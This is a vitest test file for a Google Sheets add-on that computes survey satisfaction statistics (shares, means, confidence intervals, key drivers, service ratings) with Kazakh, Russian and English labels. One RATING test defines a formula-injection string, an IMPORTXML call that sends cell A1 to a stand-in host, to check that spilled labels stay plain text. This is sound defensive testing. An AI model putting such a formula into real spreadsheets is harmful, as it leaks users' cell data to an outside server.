import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type LoadedAddon, loadAddon } from './apps-script/addon'
import { SyncHttp } from './apps-script/sync-http'
import { buildForTest } from './support/build'

let addon: LoadedAddon
let http: SyncHttp

beforeAll(async () => {
  http = new SyncHttp()
  addon = loadAddon({ dist: await buildForTest(), http })
})

afterAll(async () => {
  await http?.stop()
})

/** A custom function called as Sheets calls it; the result as plain data. */
const call = (name: string, ...args: unknown[]) =>
  JSON.parse(JSON.stringify(addon.call(name, ...args)))
const column = (...values: unknown[]) => values.map((v) => [v])

const Z = 1.959963984540054
/** Wilson's interval written out, to check the formula against. */
function wilson(p: number, n: number): [number, number] {
  const centre = p + (Z * Z) / (2 * n)
  const spread = Z * Math.sqrt((p * (1 - p)) / n + (Z * Z) / (4 * n * n))
  const scale = 1 + (Z * Z) / n
  return [(centre - spread) / scale, (centre + spread) / scale]
}

describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, RESPONDENTS', () => {
  const scores = column(5, 4, 5, 3, '', 'Жауап беруге қиналамын', 2)

  it('count a 1-D column, skipping blanks and «hard to say»', () => {
    // Valid: 5, 4, 5, 3, 2 — five respondents.
    expect(call('SATISFACTION', scores)).toBeCloseTo(2 / 5, 15)
    expect(call('SATISFACTION', scores, 'top2')).toBeCloseTo(3 / 5, 15)
    expect(call('TOP2BOX', scores)).toBeCloseTo(3 / 5, 15)
    expect(call('MEAN_SCORE', scores)).toBeCloseTo(19 / 5, 15)
    expect(call('SCORE10', scores)).toBeCloseTo(38 / 5, 15)
    expect(call('RESPONDENTS', scores)).toBe(5)
  })

  it('read a 2-D range row by row, and the scale’s words and «5 балл»', () => {
    const grid = [
      [5, 'затрудняюсь ответить'],
      ['5 балл', 'жақсы'],
      ['', 'hard to say'],
      [1, 'Отлично'],
    ]
    // Valid: 5, 5, 4, 1, 5.
    expect(call('RESPONDENTS', grid)).toBe(5)
    expect(call('SATISFACTION', grid)).toBeCloseTo(3 / 5, 15)
    expect(call('MEAN_SCORE', grid)).toBeCloseTo(20 / 5, 15)
  })

  it('take a single cell as a range of one', () => {
    expect(call('SATISFACTION', 5)).toBe(1)
    expect(call('RESPONDENTS', '')).toBe(0)
  })

  it('name a bad cell’s value and position', () => {
    expect(() => call('SATISFACTION', column(5, 4, 6))).toThrow(
      '"6" at row 3, column 1 of the range: outside the scale 1..5',
    )
    expect(() =>
      call('MEAN_SCORE', [
        [5, 4],
        [3, 'x'],
      ]),
    ).toThrow('"x" at row 2, column 2 of the range: not a score 1..5')
    expect(() => call('TOP2BOX', column(4.5))).toThrow(
      '"4.5" at row 1, column 1 of the range: not a whole score 1..5',
    )
    expect(() => call('RESPONDENTS', column(true))).toThrow(
      '"true" at row 1, column 1 of the range: TRUE/FALSE, not a score 1..5',
    )
  })

  it('refuse a range without scores and an unknown definition', () => {
    expect(() => call('SATISFACTION', column('', 'не знаю'))).toThrow('no scores 1..5 in the range')
    expect(() => call('SATISFACTION', column(5), 'top3')).toThrow(
      'definition must be "top" or "top2", not "top3"',
    )
  })

  it('weigh each respondent; a blank weight leaves one out, a bad weight is named', () => {
    const scores3 = column(5, 4, 5, 2)
    const weights = column(2, 1, 1, '')
    // Counted: 5×2, 4×1, 5×1 → Σw = 4.
    expect(call('RESPONDENTS', scores3, weights)).toBe(4)
    expect(call('SATISFACTION', scores3, 'top', weights)).toBeCloseTo(3 / 4, 15)
    expect(call('MEAN_SCORE', scores3, weights)).toBeCloseTo(19 / 4, 15)
    expect(call('SCORE10', scores3, weights)).toBeCloseTo(38 / 4, 15)
    expect(call('TOP2BOX', scores3, weights)).toBe(1)
    expect(() => call('RESPONDENTS', scores3, column(1, 'abc', 1, 1))).toThrow(
      '"abc" at row 2, column 1 of weights: weight is not a number',
    )
    expect(() => call('RESPONDENTS', scores3, column(1, 1, -2, 1))).toThrow(
      '"-2" at row 3, column 1 of weights: weight must be positive',
    )
    expect(() => call('RESPONDENTS', scores3, column(1, 1))).toThrow(
      'weights must be the same size as the range (4×1), not 2×1',
    )
  })
})

describe('DISTRIBUTION, SATISFACTION_CI and MEAN_CI', () => {
  it('DISTRIBUTION spills the shares of 1..5 across one row', () => {
    expect(call('DISTRIBUTION', column(1, 2, 2, '', 5))).toEqual([[0.25, 0.5, 0, 0, 0.25]])
    expect(
      call(
        'DISTRIBUTION',
        [
          [1, 2],
          [2, 5],
        ],
        [
          [1, 1],
          [1, 3],
        ],
      ),
    ).toEqual([[1 / 6, 2 / 6, 0, 0, 3 / 6]])
  })

  it('SATISFACTION_CI spills Wilson’s 95% interval, on the effective base when weighted', () => {
    const [[low, high]] = call('SATISFACTION_CI', column(5, 5, 4, 3))
    const [l, h] = wilson(0.5, 4)
    expect(low).toBeCloseTo(l, 12)
    expect(high).toBeCloseTo(h, 12)
    const [[top2Low]] = call('SATISFACTION_CI', column(5, 5, 4, 3), 'top2')
    expect(top2Low).toBeCloseTo(wilson(0.75, 4)[0], 12)
    // Weights 2,1,1,1 (m = 4): p = 3/5; by linearisation v(p) = 4/3 · (5·0.4² + 2·0.6²)/5² =
    // 6.08/75, a simple random sample's p(1 − p)/(m − 1) = 0.08, so deff = 6.08/6 and the
    // design effective base m/deff = 24/6.08 = 75/19 (not Kish's 25/7, which ignores p).
    const [[wLow, wHigh]] = call('SATISFACTION_CI', column(5, 5, 4, 3), '', column(2, 1, 1, 1))
    const [el, eh] = wilson(3 / 5, 75 / 19)
    expect(wLow).toBeCloseTo(el, 12)
    expect(wHigh).toBeCloseTo(eh, 12)
  })
})

describe('MEAN_CI', () => {
  // t quantiles from scipy 1.17.1, stats.t.ppf(0.975, df).
  const T5 = 2.5705818356363146

  it('spills the t interval of the mean: mean ± t(m − 1)·s/√m without weights', () => {
    // 1, 2, 3, 4, 5, 3: mean 3, s² = 10/5 = 2, v = s²/m = 1/3.
    const [[low, high]] = call('MEAN_CI', column(1, 2, 3, 4, 5, 3, ''))
    const half = T5 * Math.sqrt(1 / 3)
    expect(low).toBeCloseTo(3 - half, 12)
    expect(high).toBeCloseTo(3 + half, 12)
  })

  it('with weights, on the design-based variance (R survey’s svymean), clamped to the scale', () => {
    // The engine's worked example: scores 1..5 with weights 0.8 | 2.5 | 1 | 0.5, 0.5 | 1.5, 2,
    // 1.2 (m = 8). numpy: mean 3.63, v = m/(m−1)·Σw²(y−ȳ)²/(Σw)² = 0.4106417371428572;
    // 3.63 ± t(7)·√v = [2.1147172347152567, 5.145…], the top clamped to 5.
    const scores = column(1, 2, 3, 4, 4, 5, 5, 5)
    const weights = column(0.8, 2.5, 1, 0.5, 0.5, 1.5, 2, 1.2)
    const [[low, high]] = call('MEAN_CI', scores, weights)
    // To 1e-7: the engine counts w² to 16 significant bits (engine/weights.ts), as the Worker does.
    expect(low).toBeCloseTo(2.1147172347152567, 7)
    expect(high).toBe(5)
  })

  it('needs two scores', () => {
    expect(() => call('MEAN_CI', column(4))).toThrow(
      "a mean's interval needs 2 scores or more, not 1",
    )
    expect(() => call('MEAN_CI', column(''))).toThrow('no scores 1..5 in the range')
  })
})

describe('the scale, every formula’s last argument', () => {
  // On 1..10: valid 10, 9, 7, 10, 1, 6 — six respondents.
  const scores = column(10, 9, 7, '', 10, 1, 6)

  it('measures on 1..10: top box = 10s, top two = 9–10, 10-point score = 10 × mean / 10', () => {
    expect(call('SATISFACTION', scores, '', '', '1..10')).toBeCloseTo(2 / 6, 15)
    expect(call('SATISFACTION', scores, 'top2', undefined, '1..10')).toBeCloseTo(3 / 6, 15)
    expect(call('TOP2BOX', scores, '', '1..10')).toBeCloseTo(3 / 6, 15)
    expect(call('MEAN_SCORE', scores, '', '1..10')).toBeCloseTo(43 / 6, 15)
    expect(call('SCORE10', scores, '', ' 1 .. 10 ')).toBeCloseTo(43 / 6, 15)
    expect(call('RESPONDENTS', scores, '', '1–10')).toBe(6)
    const [shares] = call('DISTRIBUTION', scores, '', '1..10')
    expect(shares).toEqual([1, 0, 0, 0, 0, 1, 1, 0, 1, 2].map((n) => expect.closeTo(n / 6, 15)))
    const [[low]] = call('SATISFACTION_CI', scores, '', '', '1..10')
    expect(low).toBeCloseTo(wilson(2 / 6, 6)[0], 12)
  })

  it('a 0-based scale counts 0 as its lowest point', () => {
    const zero = column(0, 10, 5, 0)
    expect(call('DISTRIBUTION', zero, '', '0..10')[0]).toHaveLength(11)
    expect(call('MEAN_SCORE', zero, '', '0..10')).toBe(15 / 4)
    expect(() => call('MEAN_SCORE', zero, '', '1..10')).toThrow(
      '"0" at row 1, column 1 of the range: outside the scale 1..10',
    )
    // Dissatisfied on 0..10 = the two lowest points, 0 and 1.
    const index = call(
      'SOCIAL_CONCERN',
      column(0, 1, 2, 10),
      column(10, 10, 10, 1),
      column('Жоқ'),
      column('Жоқ'),
      column('Жоқ'),
      '0..10',
    )
    expect(index).toBeCloseTo((2 / 4 + 1 / 4) / 5, 15)
  })

  it('left out it is 1..5, where a 6 is named; a scale that cannot be is refused', () => {
    expect(() => call('MEAN_SCORE', scores)).toThrow(
      '"10" at row 1, column 1 of the range: outside the scale 1..5',
    )
    for (const bad of ['2..10', '1..11', '1..4', '10', 'ten', '1..10..20']) {
      expect(() => call('MEAN_SCORE', scores, '', bad), bad).toThrow(
        `scale must be "MIN..MAX" with MIN 0 or 1 and MAX 5 to 10, e.g. "1..10", not "${bad}"`,
      )
    }
  })

  it('KEY_DRIVERS and RATING take it after the locale', () => {
    const aspects = [['Кезек'], [10], [7], [3], [9]]
    const [, [aspect, r, n]] = call('KEY_DRIVERS', aspects, column(10, 8, 2, 9), 'en', '1..10')
    expect([aspect, n]).toEqual(['Кезек', 4])
    expect(r).toBeGreaterThan(0.9)
    const table = call('RATING', column('A', 'A', 'B'), column(10, 9, 9), 1, 'en', '1..10')
    expect(table.slice(1).map((row: unknown[]) => row.slice(3, 6))).toEqual([
      ['A', 2, 0.5],
      ['B', 1, 0],
    ])
    expect(() => call('RATING', column('A'), column(10), 1, 'en')).toThrow(
      '"10" at row 1, column 1 of scores: outside the scale 1..5',
    )
  })
})

describe('SOCIAL_CONCERN', () => {
  const overall = column(1, 2, 5, 4)
  const trust = column(1, 5, 5, '')
  const complaints = column('Иә', 'Жоқ', 'Жоқ', 'Жоқ')
  const payments = column('Нет', 'нет', 0, 'No')
  const connections = column('Иә', 'Да', '', 'Жоқ')

  it('is the mean of dissatisfied, distrust, complaints, payments and connections', () => {
    const expected = (2 / 4 + 1 / 3 + 1 / 4 + 0 + 2 / 3) / 5
    expect(call('SOCIAL_CONCERN', overall, trust, complaints, payments, connections)).toBeCloseTo(
      expected,
      15,
    )
  })

  it('names a bad answer and a part nobody answered', () => {
    expect(() =>
      call('SOCIAL_CONCERN', overall, trust, complaints, column('Жоқ', 'maybe'), connections),
    ).toThrow('"maybe" at row 2, column 1 of payments: not yes/no')
    expect(() =>
      call('SOCIAL_CONCERN', overall, trust, complaints, payments, column('', '')),
    ).toThrow('no answers for: connections')
  })
})

describe('KEY_DRIVERS', () => {
  const overall = [1, 2, 3, 4, 5, 3]
  const aspects = [
    ['Сроки', 'Вежливость', 'Доверие'],
    ...overall.map((o, i) => [o, 6 - o, i === 5 ? '' : 4]),
  ]

  it('spills aspect, r and n under a header, strongest first, with or without the overall header', () => {
    const expected = [
      ['Аспект', 'Корреляция (r)', 'Респонденттер саны'],
      ['Сроки', 1, 6],
      ['Вежливость', -1, 6],
      ['Доверие', '', 5],
    ]
    const table = call('KEY_DRIVERS', aspects, column(...overall))
    expect(table).toEqual(
      expected.map((row) => row.map((v) => (typeof v === 'number' ? expect.closeTo(v, 12) : v))),
    )
    expect(call('KEY_DRIVERS', aspects, column('Жалпы баға', ...overall))).toEqual(table)
  })

  it('names a bad aspect cell by its place in the range, header row counted', () => {
    const bad = aspects.map((row) => [...row])
    bad[3][1] = 9
    expect(() => call('KEY_DRIVERS', bad, column(...overall))).toThrow(
      '"9" at row 4, column 2 of aspects_with_header: outside the scale 1..5',
    )
    expect(() => call('KEY_DRIVERS', aspects, column(1, 2))).toThrow(
      'overall must have one cell per response (6), not 2',
    )
  })
})

describe('RATING', () => {
  const services = column('A', 'A', 'A', 'B', 'B', 'B', 'B', 'C', '')
  const scores = column(5, 5, 4, 5, 4, 4, 'Затрудняюсь ответить', 5, 5)

  it('ranks services by satisfaction, small bases after without a rank', () => {
    const table = call('RATING', services, scores, 2)
    expect(table[0]).toEqual([
      'Орны',
      'Орны: ең жоғары',
      'Орны: ең төмен',
      'Қызмет',
      'Респонденттер саны',
      'Қанағаттанушылық',
      '«4» және «5» үлесі',
      'Орташа балл',
      '10 балдық шкала',
      'Индекс 0–100',
      '95% СА төменгі шегі',
      '95% СА жоғарғы шегі',
      'Орташа: 95% СА төменгі',
      'Орташа: 95% СА жоғарғы',
      'Қанағаттанушылық: қалғандардан айырма',
      'Орташа балл: қалғандардан айырма',
    ])
    const [a, b, c] = table.slice(1)
    expect(table).toHaveLength(4)
    // Two ranked services no test tells apart: each may hold rank 1 or 2.
    expect(a.slice(0, 5)).toEqual([1, 1, 2, 'A', 3])
    expect(a[5]).toBeCloseTo(2 / 3, 15)
    expect(a[6]).toBe(1)
    expect(a[7]).toBeCloseTo(14 / 3, 15)
    expect(a[8]).toBeCloseTo(28 / 3, 15)
    expect(a[9]).toBeCloseTo((100 * (14 / 3 - 1)) / 4, 12)
    expect(a[10]).toBeCloseTo(wilson(2 / 3, 3)[0], 12)
    expect(a.slice(14)).toEqual([0, 0])
    expect(b.slice(0, 5)).toEqual([2, 1, 2, 'B', 3])
    expect(b[5]).toBeCloseTo(1 / 3, 15)
    expect(c.slice(0, 6)).toEqual(['', '', '', 'C', 1, 1])
  })

  it('uses a minimum base of 30 by default, and checks its arguments', () => {
    expect(
      call('RATING', services, scores)
        .slice(1)
        .map((row: unknown[]) => row[0]),
    ).toEqual(['', '', ''])
    expect(() => call('RATING', services, scores, 'x')).toThrow(
      'min_base must be a whole number 1 or more, not "x"',
    )
    expect(() => call('RATING', column('A'), column(5, 4))).toThrow(
      'scores must have as many cells as services (1), not 2',
    )
    expect(() => call('RATING', column('A'), column(7))).toThrow(
      '"7" at row 1, column 1 of scores: outside the scale 1..5',
    )
  })

  it('labels its header in the locale of the saved settings', () => {
    addon.properties.document.setProperty('sapa.settings', JSON.stringify({ locale: 'en' }))
    try {
      expect(call('RATING', services, scores, 2)[0].slice(3, 6)).toEqual([
        'Service',
        'Respondents',
        'Satisfaction',
      ])
    } finally {
      addon.properties.document.values.clear()
    }
  })

  it('takes the locale as an argument, so the header follows a change of language', () => {
    expect(call('RATING', services, scores, 2, 'ru')[0][3]).toBe('Услуга')
    expect(call('RATING', services, scores, 2, 'EN')[0][3]).toBe('Service')
    expect(call('RATING', services, scores, '', 'kk')[0][0]).toBe('Орны')
    expect(() => call('RATING', services, scores, 2, 'de')).toThrow(
      'locale must be "kk", "ru" or "en", not "de"',
    )
  })

  it('spills a label that starts like a formula as that text: spilled values are values', () => {
    const evil = '=IMPORTXML("https://x.example/?"&A1, "//a")'
    const table = call('RATING', column(evil, evil, '+7 701', '@x'), column(5, 4, 5, 3), 1)
    expect(
      table
        .slice(1)
        .map((row: unknown[]) => row[3])
        .sort(),
    ).toEqual(['+7 701', '@x', evil].sort())
  })
})

describe('KEY_DRIVERS locale', () => {
  it('takes the locale as an argument', () => {
    const aspects = [['Сроки'], [1], [2], [3]]
    expect(call('KEY_DRIVERS', aspects, column(1, 2, 3), 'en')[0]).toEqual([
      'Aspect',
      'Correlation (r)',
      'Respondents',
    ])
  })
})
